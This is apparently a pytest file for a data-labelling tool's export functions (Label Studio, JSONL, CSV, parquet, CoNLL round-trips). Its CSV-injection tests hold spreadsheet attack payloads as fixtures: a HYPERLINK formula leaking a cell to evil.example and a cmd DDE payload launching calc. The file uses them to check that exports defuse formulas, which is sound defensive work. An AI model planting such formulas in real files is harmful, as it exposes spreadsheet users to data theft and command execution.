"""Exports for the ecosystem: each format round-trips into a fresh project."""

from __future__ import annotations

import csv
import json
import re
from datetime import UTC, datetime
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from labelloop.core.errors import LabelloopError
from labelloop.core.standing import review_json
from labelloop.core.types import (
    LabelValue,
    Review,
    RouteDecision,
    Span,
    Suggestion,
)
from labelloop.export.conll import read_conll
from labelloop.export.writer import export, labelstudio_config_path
from labelloop.ingest.importer import import_file
from labelloop.ingest.readers import ls_email, reviewer_of_email
from labelloop.store import Store
from tests.support.factories import IMPORT_FIXTURES, guideline

FIXTURES = IMPORT_FIXTURES
T0 = datetime(2024, 5, 1, 12, 0, tzinfo=UTC)


SINGLE = guideline()
SPANS = guideline("spans", labels=("CARD", "CITY"))


@pytest.fixture
def tmp_store(tmp_path: Path):
    opened: list[Store] = []

    def make(name: str) -> Store:
        s = Store.open(f"sqlite:///{tmp_path}/{name}.db")
        opened.append(s)
        return s

    yield make
    for s in opened:
        s.close()


def jsonl(path: Path, rows) -> Path:
    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    return path


def review_set(store: Store) -> set[tuple]:
    return {(r.item_id, r.reviewer, r.value) for r in store.iter_reviews()}


def items(store: Store) -> list[tuple]:
    return [(i.id, i.text, i.messages, i.target_turn) for i in store.iter_items()]


@pytest.fixture
def single(tmp_store, tmp_path: Path) -> Store:
    """A single-label project: two annotators, a console fix, an auto-accepted item."""
    store = tmp_store("src")
    rows = [
        {
            "id": "a1",
            "text": "Where is my card?",
            "meta": {"source": "email"},
            "annotations": [
                {"reviewer": "ls-user-7", "label": "card_arrival", "time": "2024-05-01T10:00Z"},
                {"reviewer": "bo@example.com", "label": "refund", "time": "2024-05-01T11:00Z"},
            ],
        },
        {"id": "a2", "text": "Money back, please.", "label": "refund"},
        {"id": "a3", "text": "Card stolen in a bar."},
    ]
    import_file(store, SINGLE, jsonl(tmp_path / "in.jsonl", rows), reviewer="gold")
    ids = store.add_suggestions(
        [
            Suggestion(item_id=i, model="m", value=LabelValue(label=v), confidence=c)
            for i, v, c in (("a1", "card_arrival", 0.7), ("a3", "lost_or_stolen_card", 0.97))
        ]
    )
    store.set_routes(
        [
            RouteDecision(item_id="a1", route="active", reason="t", suggestion_id=ids[0]),
            RouteDecision(item_id="a3", route="auto_accepted", reason="t", suggestion_id=ids[1]),
        ]
    )
    fix = Review(
        item_id="a1",
        reviewer="rita",
        action="fix",
        value=LabelValue(label="lost_or_stolen_card"),
        duration_ms=4200,
        created_at=T0,
    )
    store.add_review(fix)
    return store


def test_labelstudio_round_trip(single: Store, tmp_store, tmp_path: Path) -> None:
    out = tmp_path / "ls.json"
    assert export(single, out, "labelstudio", model="m", guideline=SINGLE) == 3
    tasks = json.loads(out.read_text())
    a1 = tasks[0]
    assert a1["data"] == {"id": "a1", "text": "Where is my card?"}
    assert a1["meta"] == {"source": "email"}
    [pred] = a1["predictions"]
    assert (pred["model_version"], pred["score"]) == ("m", 0.7)
    assert pred["result"][0]["value"] == {"choices": ["card_arrival"]}
    by = {json.dumps(a["completed_by"]): a for a in a1["annotations"]}
    assert set(by) == {"7", '{"email": "bo@example.com"}', '{"email": "rita@labelloop.invalid"}'}
    assert by['{"email": "rita@labelloop.invalid"}']["lead_time"] == 4.2
    names = {
        (r["from_name"], r["to_name"]) for t in tasks for a in t["annotations"] for r in a["result"]
    }
    assert names == {("label", "text")}
    config = labelstudio_config_path(out).read_text()
    assert '<Choices name="label" toName="text" choice="single" required="true">' in config
    assert '<Text name="text" value="$text"/>' in config
    assert not tasks[2]["annotations"]  # a3's model label is a prediction, not an annotation

    fresh = tmp_store("fresh")
    import_file(fresh, SINGLE, out)
    assert items(fresh) == items(single)
    assert fresh.get_item("a1").meta == {"source": "email"}
    assert review_set(fresh) == review_set(single)
    times = {(r.item_id, r.reviewer): r.created_at for r in fresh.iter_reviews()}
    assert times[("a1", "rita")] == T0


def test_labelstudio_conversations_and_spans(tmp_store, tmp_path: Path) -> None:
    conv = guideline(unit="conversation")
    store = tmp_store("conv")
    msgs = [{"role": "user", "content": "Card?"}, {"role": "assistant", "content": "Which?"}]
    rows = [{"id": "c1", "messages": msgs, "target_turn": 0, "label": "card_arrival"}]
    import_file(store, conv, jsonl(tmp_path / "c.jsonl", rows), reviewer="ann")
    out = tmp_path / "conv.json"
    export(store, out, "labelstudio", guideline=conv)
    task = json.loads(out.read_text())[0]
    assert task["data"]["dialogue"][0] == {"author": "user", "text": "Card?"}
    assert 'value="$dialogue"' in labelstudio_config_path(out).read_text()
    fresh = tmp_store("conv2")
    import_file(fresh, conv, out)
    assert items(fresh) == items(store) and review_set(fresh) == review_set(store)

    spans = tmp_store("spans")
    text = "Lost my Visa card in Paris"
    row = {"id": "s1", "text": text, "spans": [{"start": 8, "end": 17, "label": "CARD"}]}
    import_file(spans, SPANS, jsonl(tmp_path / "s.jsonl", [row]), reviewer="ann")
    out = tmp_path / "spans.json"
    export(spans, out, "labelstudio", guideline=SPANS)
    assert "<Labels" in labelstudio_config_path(out).read_text()
    fresh = tmp_store("spans2")
    import_file(fresh, SPANS, out)
    assert review_set(fresh) == review_set(spans)


#: Label Studio 1.23's import (``tasks/serializers.py``, ``_insert_valid_completed_by``)
#: takes ``completed_by`` as a user id or an object with an ``email``, and refuses the whole
#: file otherwise; its users' emails pass Django's EmailValidator, lower case at sign-up.
LS_EMAIL = re.compile(r"[-!#$%&'*+/=?^_`{}|~0-9a-z]+(\.[-!#$%&'*+/=?^_`{}|~0-9a-z]+)*@[a-z0-9.-]+")


@pytest.mark.parametrize(
    "name", ["rita", "Ann B", ".x..y.", "ann@team", "50%", "ünï", "a.b-c_d", "%41"]
)
def test_reviewer_names_travel_as_emails_label_studio_accepts(name: str) -> None:
    email = ls_email(name)
    assert LS_EMAIL.fullmatch(email) and email.endswith("@labelloop.invalid")
    assert email == email.lower()  # as Label Studio stores it
    assert reviewer_of_email(email) == name
    assert ls_email("bo@example.com") == "bo@example.com"
    assert reviewer_of_email("bo@example.com") == "bo@example.com"


def test_labelstudio_no_spans_and_no_labels_round_trip(tmp_store, tmp_path: Path) -> None:
    """'No spans' and 'no labels' are decisions: an empty annotation out, a review back."""
    multi = guideline("multi")
    cases = [
        (
            SPANS,
            {"id": "s1", "text": "Lost my Visa card in Paris"},
            [
                {"reviewer": "ann", "spans": []},
                {"reviewer": "Bo Li", "spans": [{"start": 8, "end": 17, "label": "CARD"}]},
            ],
            LabelValue(spans=()),
        ),
        (
            multi,
            {"id": "m1", "text": "Card and refund?"},
            [{"reviewer": "ann", "labels": []}, {"reviewer": "cy", "labels": ["refund"]}],
            LabelValue(labels=()),
        ),
    ]
    for g, item, decided, empty in cases:
        store = tmp_store(f"src-{g.kind}")
        rows = [{**item, "annotations": decided}]
        import_file(store, g, jsonl(tmp_path / f"{g.kind}.jsonl", rows))
        store.add_suggestions([Suggestion(item_id=item["id"], model="m", value=empty)])
        out = tmp_path / f"{g.kind}.json"
        export(store, out, "labelstudio", model="m", guideline=g)
        [task] = json.loads(out.read_text())
        by = {a["completed_by"]["email"]: a["result"] for a in task["annotations"]}
        assert by["ann@labelloop.invalid"] == []
        assert len(by) == store.count_reviews() == 2
        assert [p["result"] for p in task["predictions"]] == [[]]  # the model's "none" too

        fresh = tmp_store(f"back-{g.kind}")
        import_file(fresh, g, out)
        assert review_set(fresh) == review_set(store)
        assert (item["id"], "ann", empty) in review_set(fresh)


def test_labelstudio_empty_annotation_on_a_single_label_task_is_no_review(
    tmp_store, tmp_path: Path
) -> None:
    task = {
        "data": {"id": "a", "text": "Where is my card?"},
        "annotations": [
            {"completed_by": 3, "result": []},
            {"completed_by": 4, "result": [{"type": "choices", "value": {"choices": ["refund"]}}]},
        ],
    }
    path = tmp_path / "ls.json"
    path.write_text(json.dumps([task]), encoding="utf-8")
    store = tmp_store("single")
    result = import_file(store, SINGLE, path)
    assert result.reviews_added == 1
    assert review_set(store) == {("a", "ls-user-4", LabelValue(label="refund"))}


def test_labelstudio_leaves_out_a_latest_value_it_cannot_hold(single: Store, tmp_path) -> None:
    later = Review(
        item_id="a1",
        reviewer="rita",
        action="fix",
        value=LabelValue(abstain=True),
        created_at=T0.replace(hour=13),
    )
    single.add_review(later)
    out = tmp_path / "ls.json"
    export(single, out, "labelstudio", model="m", guideline=SINGLE)
    a1 = json.loads(out.read_text())[0]
    assert {json.dumps(a["completed_by"]) for a in a1["annotations"]} == {
        "7",
        '{"email": "bo@example.com"}',
    }  # not rita's earlier label, which she took back


def test_labelstudio_refuses_turn_units(single: Store, tmp_path: Path) -> None:
    with pytest.raises(LabelloopError, match="unit: turn"):
        export(single, tmp_path / "x.json", "labelstudio", guideline=guideline(unit="turn"))
    assert not (tmp_path / "x.json").exists()


def test_jsonl_and_csv_round_trip(single: Store, tmp_store, tmp_path: Path) -> None:
    out = tmp_path / "out.jsonl"
    export(single, out, "jsonl", model="m")
    fresh = tmp_store("j")
    import_file(fresh, SINGLE, out)
    assert items(fresh) == items(single)
    assert review_set(fresh) == review_set(single)

    out = tmp_path / "out.csv"
    export(single, out, "csv", model="m")
    with out.open(encoding="utf-8", newline="") as fh:
        rows = {r["id"]: r for r in csv.DictReader(fh)}
    assert rows["a1"]["label"] == "lost_or_stolen_card" and rows["a1"]["label_source"] == "human"
    assert rows["a3"]["label_source"] == "model" and rows["a3"]["confidence"] == "0.9700"
    # the CSV's human final labels import back as one reviewer's labels; model ones never
    fresh = tmp_store("c")
    import_file(fresh, SINGLE, out, reviewer="csv")
    assert [i.id for i in fresh.iter_items()] == ["a1", "a2", "a3"]
    assert {(r.item_id, r.value.label) for r in fresh.iter_reviews()} == {
        (i, r["label"]) for i, r in rows.items() if r["label_source"] == "human"
    }


def test_a_bulk_accept_is_exported_as_one() -> None:
    value = LabelValue(label="refund")
    bulk = Review(item_id="a", reviewer="ada", action="accept", value=value, bulk=True, bulk_id=3)
    looked = Review(item_id="a", reviewer="ada", action="accept", value=value)
    assert review_json(bulk)["bulk"] is True
    assert "bulk" not in review_json(looked)


def test_hf_parquet_folder(single: Store, tmp_path: Path) -> None:
    out = tmp_path / "hf"
    assert export(single, out, "hf", model="m", guideline=SINGLE) == 3
    assert {p.name for p in out.iterdir()} == {"data.parquet", "dataset_info.json", "README.md"}
    rows = {r["id"]: r for r in pq.read_table(out / "data.parquet").to_pylist()}
    assert rows["a1"]["text"] == "Where is my card?"
    assert (rows["a1"]["label"], rows["a1"]["label_source"]) == ("lost_or_stolen_card", "human")
    assert (rows["a3"]["label"], rows["a3"]["label_source"]) == ("lost_or_stolen_card", "model")
    assert (rows["a1"]["suggested_label"], rows["a1"]["confidence"]) == ("card_arrival", 0.7)
    assert rows["a1"]["route"] == "reviewed"
    reviewers = {r["reviewer"] for r in json.loads(rows["a1"]["reviews"])}
    assert reviewers == {"ls-user-7", "bo@example.com", "rita"}
    assert json.loads(rows["a1"]["meta"]) == {"source": "email"}


def test_conll_cuts_tokens_where_spans_start_and_end(tmp_store, tmp_path: Path) -> None:
    """Spans inside a whitespace token ("Lagos->Accra", "Paris,") come back exactly: the
    token is cut at their edges, so no span swallows punctuation or a neighbour."""
    store = tmp_store("ner")
    text = "Lagos->Accra on the 2nd, then Paris, ok?"
    marks = [("Lagos", "CITY"), ("Accra", "CITY"), ("Paris", "CITY"), ("2nd", "CARD")]
    spans = sorted(
        ({"start": text.index(w), "end": text.index(w) + len(w), "label": lab} for w, lab in marks),
        key=lambda s: s["start"],
    )
    import_file(
        store, SPANS, jsonl(tmp_path / "n.jsonl", [{"id": "n1", "text": text, "spans": spans}])
    )
    out = tmp_path / "out.conll"
    assert export(store, out, "conll", guideline=SPANS) == 1
    tokens = [
        ln.split("\t") for ln in out.read_text().splitlines() if not ln.startswith("#") and ln
    ]
    assert tokens[:3] == [["Lagos", "B-CITY"], ["->", "O"], ["Accra", "B-CITY"]]
    assert ["Paris", "B-CITY"] in tokens and [",", "O"] in tokens and ["2nd", "B-CARD"] in tokens
    [back] = read_conll(out)
    assert back["spans"] == spans


def test_conll_refuses_overlapping_spans_and_writes_nothing(tmp_store, tmp_path: Path) -> None:
    store = tmp_store("ner")
    spans = [{"start": 0, "end": 9, "label": "CITY"}, {"start": 5, "end": 9, "label": "CARD"}]
    row = {"id": "o1", "text": "Visa card lost", "spans": spans}
    import_file(store, SPANS, jsonl(tmp_path / "o.jsonl", [row]))
    out = tmp_path / "out.conll"
    with pytest.raises(
        LabelloopError, match=r"item 'o1': spans CITY \[0:9\] and CARD \[5:9\] overlap.*JSONL"
    ):
        export(store, out, "conll", guideline=SPANS)
    assert list(tmp_path.glob("out.conll*")) == []
    assert export(store, tmp_path / "out.jsonl", "jsonl", guideline=SPANS) == 1


def test_hf_loads_with_datasets(single: Store, tmp_path: Path) -> None:
    datasets = pytest.importorskip("datasets")
    out = tmp_path / "hf"
    export(single, out, "hf", model="m", guideline=SINGLE)
    ds = datasets.load_dataset("parquet", data_files=str(out / "data.parquet"))["train"]
    assert ds.num_rows == 3 and ds[0]["id"] == "a1"


def test_conll_round_trip(tmp_store, tmp_path: Path) -> None:
    store = tmp_store("ner")
    text = "Lost my Visa card\nin Paris  today"
    spans = [{"start": 8, "end": 17, "label": "CARD"}, {"start": 21, "end": 26, "label": "CITY"}]
    rows = [{"id": "n1", "text": text, "spans": spans}, {"id": "n2", "text": "nothing here"}]
    import_file(store, SPANS, jsonl(tmp_path / "n.jsonl", rows), reviewer="ann")
    out = tmp_path / "out.conll"
    # n2 has no answer yet: left out, since all O would read as "no spans"
    assert export(store, out, "conll", guideline=SPANS) == 1
    lines = out.read_text().splitlines()
    assert lines[:4] == ["# id = n1", "# text = Lost my Visa card in Paris  today", *lines[2:4]]
    assert "Visa\tB-CARD" in lines and "card\tI-CARD" in lines and "Paris\tB-CITY" in lines
    back = list(read_conll(out))
    assert [b["id"] for b in back] == ["n1"]
    assert back[0]["spans"] == spans and back[0]["label_source"] == "human"
    # a queue's export is for annotating elsewhere: its waiting items, all O, source none
    store.set_routes([RouteDecision(item_id="n2", route="active", reason="t")])
    waiting = tmp_path / "waiting.conll"
    assert export(store, waiting, "conll", queue="active", guideline=SPANS) == 1
    [item] = read_conll(waiting)
    assert (item["id"], item["spans"], item["label_source"]) == ("n2", [], "none")
    got = [Span(**s) for s in back[0]["spans"]]
    [review] = store.iter_reviews()
    assert [(s.start, s.end, s.label) for s in review.value.spans] == [
        (s.start, s.end, s.label) for s in got
    ]


def test_conll_refuses_non_span_guidelines(single: Store, tmp_path: Path) -> None:
    with pytest.raises(LabelloopError, match="conll export needs a span guideline"):
        export(single, tmp_path / "x.conll", "conll", guideline=SINGLE)
    assert not (tmp_path / "x.conll").exists()


def test_import_handwritten_labelstudio_file(tmp_store) -> None:
    store = tmp_store("hand")
    result = import_file(store, SINGLE, FIXTURES / "labelstudio_handwritten.json")
    assert (result.rows, result.items_added, result.reviews_added) == (2, 2, 2)
    assert [i.text for i in store.iter_items()] == [
        "My card never arrived, it has been two weeks.",
        "Please refund order 1234.",
    ]
    got = {(r.item_id, r.reviewer, r.value.label, r.created_at) for r in store.iter_reviews()}
    assert got == {
        ("1", "ls-user-1", "card_arrival", datetime(2024, 6, 3, 9, 1, 30, tzinfo=UTC)),
        ("1", "ann@example.com", "lost_or_stolen_card", datetime(2024, 6, 3, 10, tzinfo=UTC)),
    }  # predictions never become reviews

    ner = tmp_store("ner")
    import_file(ner, SPANS, FIXTURES / "labelstudio_handwritten_ner.json")
    [review] = ner.iter_reviews()
    assert review.reviewer == "ls-user-3"
    assert [(s.start, s.end, s.label) for s in review.value.spans] == [
        (8, 17, "CARD"),
        (21, 26, "CITY"),
    ]


def test_an_item_people_have_not_finished_deciding_has_no_final_label(tmp_path) -> None:
    """One answer of an overlap pair, or two that disagree, is no decision yet; a gold
    answer checks its reviewer and decides nothing."""
    from labelloop.review.auth import add_user
    from labelloop.review.service import ReviewService
    from labelloop.route import router
    from tests.support.console import PASSWORD, guideline_text, make_project, seed, texts

    users = [("ann", "reviewer"), ("bob", "reviewer"), ("ada", "admin")]
    text = guideline_text(("refund", "card"))
    project = make_project(tmp_path, text, users, overlap=1.0, overlap_reviewers=2)
    add_user(project.store, "cy", "reviewer", PASSWORD)
    seed(project, texts("ov", 1, label="refund"))
    svc = ReviewService(project, background_prefetch=False)

    def final() -> tuple:
        out = tmp_path / "out.jsonl"
        export(project.store, out, "jsonl", None, "local", ())
        row = json.loads(out.read_text().splitlines()[0])
        return row.get("label"), row["label_source"], row["route"]

    svc.decide("ann", svc.next_item("ann").item.id, "fix", "card")
    assert final() == (None, None, "active")  # waits for a second answer
    svc.decide("bob", svc.next_item("bob").item.id, "fix", "refund")
    assert final() == (None, None, "adjudication")  # they disagree: waits for an admin
    svc.adjudicate("ada", "ov00", "card")
    assert final() == ("card", "adjudicated", "reviewed")
    # a gold check on an item nobody decided leaves it waiting for people
    seed(project, texts("gd", 1, label="refund"))
    project.config.review.gold_rate = 1.0
    svc.add_gold("ada", {"gd00": "refund"})
    view = svc.next_item("cy")
    assert view.gold and view.item.id == "gd00"
    assert svc.decide("cy", "gd00", "fix", "refund").review.queue == "gold"
    router.route(project)
    assert "gd00" not in project.store.reviewed_item_ids()
    assert project.store.get_route("gd00").route == "active"
    svc.close()
    project.store.close()


# -- CSV injection: a cell a spreadsheet would run is written as text --------------------------

FORMULAS = [
    # (case, id, text): each cell starts with what a spreadsheet reads as a formula
    ("equals", "f1", "=1+2"),
    ("plus", "f2", "+1+2"),
    ("minus", "f3", "-1+2"),
    ("at", "f4", "@SUM(A1)"),
    ("tab", "f5", "\t=1+2"),
    ("carriage return", "f6", "\r=1+2"),
    ("hyperlink", "f7", '=HYPERLINK("https://evil.example/?d="&A1,"Click")'),
    ("formula id", "=c7", "an ordinary text"),
    ("negative number in a text field", "f9", "-3"),
    ("a quote already before a formula", "f10", "'=1+2"),
]  # fmt: skip
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def test_csv_export_defuses_formulas_and_imports_them_back(tmp_store, tmp_path: Path) -> None:
    source = tmp_store("formulas")
    rows = [{"id": i, "text": t, "label": "refund"} for _, i, t in FORMULAS]
    import_file(source, SINGLE, jsonl(tmp_path / "f.jsonl", rows), reviewer="@ann")
    [sid] = source.add_suggestions(
        [Suggestion(item_id="f1", model="=m", value=LabelValue(label="refund"),
                    confidence=0.5, rationale="+cmd|' /C calc'!A0")]
    )  # fmt: skip
    source.set_routes([RouteDecision(item_id="f1", route="active", reason="t", suggestion_id=sid)])
    out = tmp_path / "out.csv"
    export(source, out, "csv", model="=m")
    with out.open(encoding="utf-8", newline="") as fh:
        cells = {r["id"]: r for r in csv.DictReader(fh)}
    for row in cells.values():
        for value in row.values():
            assert not value.startswith(TRIGGERS), value
    expected = {i: "'" + t for _, i, t in FORMULAS if i != "=c7"}
    assert {i: cells["'" + i if i.startswith("=") else i]["text"] for i in expected} == expected
    assert "'=c7" in cells and cells["'=c7"]["text"] == "an ordinary text"
    assert cells["f1"]["rationale"] == "'+cmd|' /C calc'!A0" and cells["f1"]["model"] == "'=m"
    assert cells["f1"]["reviewers"] == "'@ann"
    # labelloop's CSV import takes the quote off again: the same ids and texts come back
    fresh = tmp_store("back")
    import_file(fresh, SINGLE, out, reviewer="csv")
    assert {(i.id, i.text) for i in fresh.iter_items()} == {(i, t) for _, i, t in FORMULAS}


def test_blind_csv_export_defuses_formulas(tmp_store, tmp_path: Path) -> None:
    source = tmp_store("blind")
    rows = [{"id": i, "text": t} for _, i, t in FORMULAS]
    import_file(source, SINGLE, jsonl(tmp_path / "f.jsonl", rows), reviewer="gold")
    source.set_routes(
        [RouteDecision(item_id=i, route="calibration", reason="t") for _, i, _ in FORMULAS]
    )
    out = tmp_path / "blind.csv"
    export(source, out, "csv", queue="calibration", guideline=SINGLE)
    with out.open(encoding="utf-8", newline="") as fh:
        values = [v for r in csv.DictReader(fh) for v in r.values()]
    assert values and not any(v.startswith(TRIGGERS) for v in values)
    fresh = tmp_store("blind_back")
    import_file(fresh, SINGLE, out, sample=True)
    assert {(i.id, i.text) for i in fresh.iter_items()} == {(i, t) for _, i, t in FORMULAS}


def test_json_exports_are_strict_json_whatever_the_store_holds(tmp_store, tmp_path: Path) -> None:
    from labelloop.core.types import Item
    from labelloop.store.base import item_to_values
    from labelloop.store.tables import ItemRow

    store = tmp_store("nan")
    # a NaN kept from before imports refused it (SQLite stored what Python's JSON wrote)
    item = Item(id="n1", text="t", meta={"score": float("nan"), "big": [float("-inf")]})
    with store.transaction() as c:
        c.execute(ItemRow.__table__.insert(), [item_to_values(item)])
    out = tmp_path / "out.jsonl"
    export(store, out, "jsonl")
    [row] = [strict_json(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert row["meta"] == {"score": None, "big": [None]}
    export(store, tmp_path / "ls.json", "labelstudio", guideline=SINGLE)
    [task] = strict_json((tmp_path / "ls.json").read_text(encoding="utf-8"))
    assert task["meta"] == {"score": None, "big": [None]}


def strict_json(text: str):
    """JSON as the standard has it: NaN and Infinity are no JSON."""

    def refuse(constant: str):
        raise ValueError(f"{constant} is not JSON")

    return json.loads(text, parse_constant=refuse)
